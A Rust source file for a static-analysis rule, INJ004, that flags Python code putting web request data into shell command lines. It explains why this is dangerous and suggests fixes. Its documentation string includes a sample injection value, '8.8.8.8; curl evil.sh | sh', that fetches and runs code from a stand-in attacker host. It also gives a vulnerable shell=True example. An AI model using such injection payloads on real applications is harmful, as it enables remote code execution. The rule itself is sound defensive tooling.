//! INJ004 `shell-command-from-request`: request data in a shell command line.

use report::Finding;

use crate::{
    model::flow::request_origin,
    python::{
        taint::Sink,
        value::{Call, Value},
    },
    rules::{
        request_data::{callee, origin_words, with_built_here, with_origin},
        Rule, RuleContext,
    },
    source::Span,
};

pub const RULE: Rule = Rule {
    code: "INJ004",
    name: "shell-command-from-request",
    doc: DOC,
    check,
};

const DOC: &str = r#"## What it does
Finds command lines that a shell parses and that contain request data:
`subprocess.run/call/check_call/check_output/Popen(..., shell=True)`,
`os.system`, `os.popen`, `subprocess.getoutput/getstatusoutput`,
`commands.getoutput`, `asyncio.create_subprocess_shell`, and argument lists
that start a shell themselves (`["sh", "-c", cmd]`). Request data is followed
through local variables, string building and helpers that receive it;
`shlex.quote` and conversions such as `int()` clean it.

A list of arguments without a shell (`subprocess.run(["ping", "-c", "1",
host])`) is silent: no shell parses it.

## Why is this bad?
A shell reads `;`, `&&`, `|`, backticks and `$(...)` as the start of another
command: `8.8.8.8; curl evil.sh | sh` runs the attacker's program with the
app's privileges, its secrets and its network access.

## Example
```python
host = request.form["host"]
subprocess.check_output(f"ping -c 1 {host}", shell=True)
```

Use instead:
```python
host = str(ipaddress.ip_address(request.form["host"]))
subprocess.run(["ping", "-c", "1", "--", host], capture_output=True, timeout=5)
```
"#;

/// Always through a shell.
const SHELL_ALWAYS: &[&str] = &[
    "os.system",
    "os.popen",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "commands.getoutput",
    "commands.getstatusoutput",
    "asyncio.create_subprocess_shell",
    "asyncio.subprocess.create_subprocess_shell",
];

/// Through a shell with `shell=True`.
const SHELL_OPTION: &[&str] = &[
    "subprocess.run",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.Popen",
];

const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "/bin/sh",
    "/bin/bash",
    "/usr/bin/bash",
    "/usr/bin/sh",
    "cmd",
    "cmd.exe",
    "powershell",
    "pwsh",
];

/// The text a shell parses, if this call runs one.
fn shell_text<'a>(name: &str, c: &'a Call) -> Option<&'a Value> {
    let first = c
        .param(0, "args")
        .or_else(|| c.kwarg("cmd"))
        .or_else(|| c.kwarg("command"))?;
    if SHELL_ALWAYS.contains(&name) {
        return Some(first);
    }
    if !SHELL_OPTION.contains(&name) {
        return None;
    }
    if c.kwarg("shell").and_then(Value::truthy) == Some(true) {
        // With a list and shell=True, only the first item is the command line.
        return Some(first.as_seq().and_then(|s| s.first()).unwrap_or(first));
    }
    // ["sh", "-c", command]
    let items = first.as_seq()?;
    let program = items.first()?.as_str()?;
    let flag = items.get(1)?.as_str()?;
    (SHELLS.contains(&program) && matches!(flag, "-c" | "/c" | "-Command")).then(|| items.get(2))?
}

fn check(ctx: &RuleContext) -> Vec<Finding> {
    let project = ctx.project;
    let mut out = Vec::new();
    let names = [
        "system",
        "popen",
        "getoutput",
        "getstatusoutput",
        "create_subprocess_shell",
        "run",
        "call",
        "check_call",
        "check_output",
        "Popen",
    ];
    for (file, _, call) in project.calls_named(&names) {
        let Some(name) = callee(project, file, call) else {
            continue;
        };
        let c = call.call();
        let Some(text) = shell_text(&name, c) else {
            continue;
        };
        let Some(origin) = request_origin(project, file, text, Sink::Shell) else {
            continue;
        };
        let span = Span::new(file, call.range());
        let short = name.rsplit('.').next().unwrap_or(&name);
        let mut f = ctx
            .finding(
                RULE.code,
                RULE.name,
                span,
                format!(
                    "`{short}` runs a shell command line that contains {}",
                    origin_words(ctx, origin)
                ),
            )
            .with_evidence(ctx.snippet(span))
            .with_fix("Pass the command as a list without `shell=True` (`subprocess.run([\"tar\", \"czf\", path, \"--\", name])`), validate the value against what it must be, and set a timeout.");
        f = with_origin(ctx, f, origin);
        f = with_built_here(ctx, f, file, text, span, "the command line");
        out.push(f);
    }
    out
}
